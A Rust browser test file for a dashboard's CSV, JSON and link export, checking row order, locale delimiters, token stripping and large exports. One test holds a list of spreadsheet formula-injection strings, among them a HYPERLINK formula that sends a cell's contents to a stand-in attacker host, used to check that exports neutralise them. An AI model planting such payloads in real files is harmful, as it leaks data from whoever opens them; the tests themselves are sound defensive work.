//! What a reader takes away: read back by programs that know nothing of the page, it says what the screen says.

use std::time::Duration;

use axum::Router;
use axum::response::IntoResponse as _;
use axum::routing::get;
use csv::ReaderBuilder;
use cubeboard_e2e::browser::{Engine, Looks};
use cubeboard_e2e::failure::Outcome;
use cubeboard_e2e::figures::figure;
use cubeboard_e2e::page::Page;
use cubeboard_e2e::relay::Relay;
use cubeboard_e2e::server::Server;
use cubeboard_e2e::{A_MILLION_CALLS, JANUARY_SALES, demo, folders};
use serde_json::{Value, json};
use tower_http::services::ServeDir;

/// Thirteen sales to people whose name holds "ås", in Norwegian order.
const PICKED: &str =
    "/?campaign=926&from=2017-01-01&to=2017-01-31&q=%C3%A5s&is_type=Sale&sort=customer_name";

const TWO_MINUTES: Duration = Duration::from_mins(2);

/// The rows of a CSV file, its head among them, behind the mark that tells Excel of UTF-8.
fn rows_of(text: &str, delimiter: u8) -> Outcome<Vec<Vec<String>>> {
    // Without the mark there are no rows to find.
    let text = text.strip_prefix('\u{feff}').unwrap_or_default();
    let mut reader =
        ReaderBuilder::new().delimiter(delimiter).has_headers(false).from_reader(text.as_bytes());
    let rows = reader.records().map(|it| Ok(it?.iter().map(str::to_owned).collect()));
    rows.collect()
}

/// A time of a file as the English table has it.
fn as_shown(time: &str) -> String {
    let (day, time) = time.split_once(' ').unwrap_or_default();
    let [year, month, day] = [0..4, 5..7, 8..10].map(|it| day.get(it).unwrap_or_default());
    assert_eq!((year, month), ("2017", "01"));
    format!("{} Jan 2017, {time}", day.trim_start_matches('0'))
}

#[tokio::test]
async fn a_csv_file_has_the_rows_columns_and_order_of_the_screen_and_its_clock() -> Outcome {
    let (_relay, page) = demo().await?;
    page.open(PICKED).await?;
    page.shows_rows(13).await?;
    page.click("button", "Columns").await?;
    page.click("checkbox", "Subtype").await?;
    page.click("button", "Share and export").await?;
    let saved = page.save("CSV").await?;
    assert_eq!(saved.name, "cubeboard-926-2017-01-01-2017-01-31.csv");
    page.sees("Saved as cubeboard-926-2017-01-01-2017-01-31.csv").await?;

    let rows = rows_of(&saved.text()?, b',')?;
    let head = ["Type", "Agent", "Customer", "CRM id", "External id", "Comment"];
    assert_eq!(rows[0][0], "Submitted (Oslo time, UTC+01:00)");
    assert_eq!(rows[0][1..], head);
    assert_eq!(rows.len(), 1 + 13);
    for (number, row) in rows.iter().enumerate().skip(1) {
        let mut row = row.clone();
        row[0] = as_shown(&row[0]);
        let shown = page.grid_row(number).await?;
        let shown: Vec<_> = shown.iter().map(|it| if it == "—" { "" } else { it }).collect();
        assert_eq!(row, shown, "row {number}");
    }
    assert_eq!(page.console().await?, []);
    Ok(())
}

#[tokio::test]
async fn norwegian_readers_get_semicolons() -> Outcome {
    let (_relay, page) = demo().await?;
    page.open(&format!("{PICKED}&lang=nb&tz=UTC")).await?;
    page.shows_rows(13).await?;
    page.click("button", "Del og eksporter").await?;
    let text = page.save("CSV").await?.text()?;
    let rows = rows_of(&text, b';')?;
    assert_eq!(rows[0][0], "Registrert (UTC)");
    assert_eq!(rows.len(), 1 + 13);
    assert!(rows[13][4].starts_with("Åse-Åshild"), "{:?}", rows[13]);
    Ok(())
}

#[tokio::test]
async fn a_json_file_of_all_rows_has_what_the_service_sent() -> Outcome {
    let (relay, page) = demo().await?;
    page.open(PICKED).await?;
    page.shows_rows(13).await?;
    page.click("button", "Share and export").await?;
    page.click("radio", "All rows (634)").await?;
    let saved = page.save("JSON").await?;
    assert_eq!(saved.name, "cubeboard-926-2017-01-01-2017-01-31.json");
    let rows: Vec<Value> = serde_json::from_slice(&saved.bytes()?)?;
    assert_eq!(rows.len(), 634);

    let target = "/api/v1/campaigns/926/responses/?from_date=20170101&to_date=20170131&page=7";
    let sent: Value =
        page.read("return fetch(arguments[0]).then(it => it.json())", vec![json!(target)]).await?;
    let sent = sent["results"].as_array().expect("a page of responses");
    assert_eq!(rows[300..300 + sent.len()], sent[..]);
    drop(relay);
    Ok(())
}

/// Texts that break out of a cell, a line or a text, or that a spreadsheet would run.
const HOSTILE: [&str; 12] = [
    "=HYPERLINK(\"https://evil.example/?\"&A1)",
    "+47 99 99 99 99",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r\n=1",
    "\u{ff1d}1",
    "a;b,c\"d\"e",
    "two\nlines",
    "'=1",
    "</script><b>",
    "\u{0}\u{1f}\u{7f}\u{2028}\u{202e}\u{1f600}",
];

#[tokio::test]
async fn hostile_texts_are_cells_in_csv_and_texts_in_json() -> Outcome {
    let rows = HOSTILE.map(|it| {
        json!({ "submitted_by": "kari", "submitted_when": "2017-01-05T10:00:00.000001Z",
                "crm_customer_id": it, "customer_name": it, "campaign_id": 926, "type": "Sale",
                "subtype": "=1", "comment": it, "external_customer_id": 1 })
    });
    let body = json!({ "count": rows.len(), "next": null, "results": rows }).to_string();
    let router = Router::new()
        .route("/api/{*path}", get(async move || body.clone().into_response()))
        .fallback_service(ServeDir::new(folders::page()?));
    let server = Server::start(router).await?;
    let page = Page::at(server.origin(), &Looks::default()).await?;
    page.open(JANUARY_SALES).await?;
    page.sees("12 of 12 responses").await?;
    page.click("button", "Share and export").await?;
    let json: Value = serde_json::from_slice(&page.save("JSON").await?.bytes()?)?;
    assert_eq!(json, json!(rows));

    let csv = rows_of(&page.save("CSV").await?.text()?, b',')?;
    assert_eq!(csv.len(), 1 + HOSTILE.len());
    for (cells, text) in csv[1..].iter().zip(HOSTILE) {
        let starts = ['=', '+', '-', '@', '\u{ff1d}', '\''];
        let cell = match text {
            // To who ends cells at the tab or the line break, the sign begins one.
            "\t=1" => "'\t'=1".to_owned(),
            "\r\n=1" => "'\r\n'=1".to_owned(),
            text if text.starts_with(starts) => format!("'{text}"),
            text => text.to_owned(),
        };
        for place in [4, 5, 7] {
            assert_eq!(cells[place], cell);
        }
        assert_eq!(&cells[1..=3], ["Sale", "'=1", "kari"]);
        assert_eq!(cells[6], "1", "a number stays one");
    }
    Ok(())
}

#[tokio::test]
async fn a_link_is_copied_with_query_and_view_and_without_anything_else() -> Outcome {
    let (relay, page) = demo().await?;
    page.open(&format!("{PICKED}&theme=dark&token=s3cret")).await?;
    page.shows_rows(13).await?;
    page.click("button", "Share and export").await?;
    page.click("button", "Copy link").await?;
    page.sees("Link copied").await?;
    let link = page.clipboard().await?;
    let rest = link.strip_prefix(relay.origin()).expect("a link to this page");
    assert!(rest.starts_with(PICKED), "{link}");
    assert!(!link.contains("s3cret") && !link.contains("dark"), "{link}");
    page.open(rest).await?;
    page.shows_rows(13).await
}

#[tokio::test]
async fn firefox_saves_the_same() -> Outcome {
    let relay = Relay::demo().await?;
    let page = Page::inside(Engine::Firefox, relay.origin(), &Looks::default()).await?;
    page.open(PICKED).await?;
    page.shows_rows(13).await?;
    page.click("button", "Share and export").await?;
    let rows = rows_of(&page.save("CSV").await?.text()?, b',')?;
    assert_eq!(rows.len(), 1 + 13);
    Ok(())
}

#[tokio::test]
async fn a_million_rows_are_saved_or_given_up_while_the_page_listens() -> Outcome {
    let (_relay, page) = demo().await?;
    page.start_watching(TWO_MINUTES).await?;
    page.open(A_MILLION_CALLS).await?;
    page.sees_within(TWO_MINUTES, "1,000,000 of 1,000,000 responses").await?;
    page.click("button", "Share and export").await?;
    page.click("button", "CSV").await?;
    page.click("button", "Cancel").await?;
    page.sees("Cancelled; nothing was saved").await?;

    page.read::<()>("window.stopwatch.tasks.length = 0; return null", vec![]).await?;
    let saved = page.saved_within(TWO_MINUTES, async || {
        page.click("button", "CSV").await?;
        page.has("progressbar", "Writing the file").await?;
        page.press_escape().await?;
        // What the reader does is answered before the file is there, and changes nothing of it.
        page.fill("Search responses", "åse").await?;
        page.row_where(|row| row[4].to_lowercase().contains("åse")).await?;
        page.click("button", "Share and export").await?;
        page.has("progressbar", "Writing the file").await
    });
    let text = saved.await?.text()?;
    let tasks: Vec<f64> =
        page.read("return window.stopwatch.tasks.map(it => it.duration)", vec![]).await?;
    figure(
        "tasks above 50 ms while a million rows are saved",
        f64::from(u32::try_from(tasks.len())?),
        "",
    );
    let mut reader = ReaderBuilder::new().from_reader(text.as_bytes());
    assert_eq!(reader.records().flatten().count(), 1_000_000);
    Ok(())
}

#[tokio::test]
async fn a_link_longer_than_servers_take_is_told() -> Outcome {
    // Report 35.
    let (_relay, page) = demo().await?;
    let agents = (0..250).map(|number| format!("&is_agent=agent.{number}%40callcenter.no"));
    let agents = agents.collect::<Vec<_>>().concat();
    page.open(&format!("{JANUARY_SALES}{agents}")).await?;
    page.sees("complete").await?;
    page.click("button", "Share and export").await?;
    page.click("button", "Copy link").await?;
    page.sees("It is longer than some servers and mail programs take").await
}
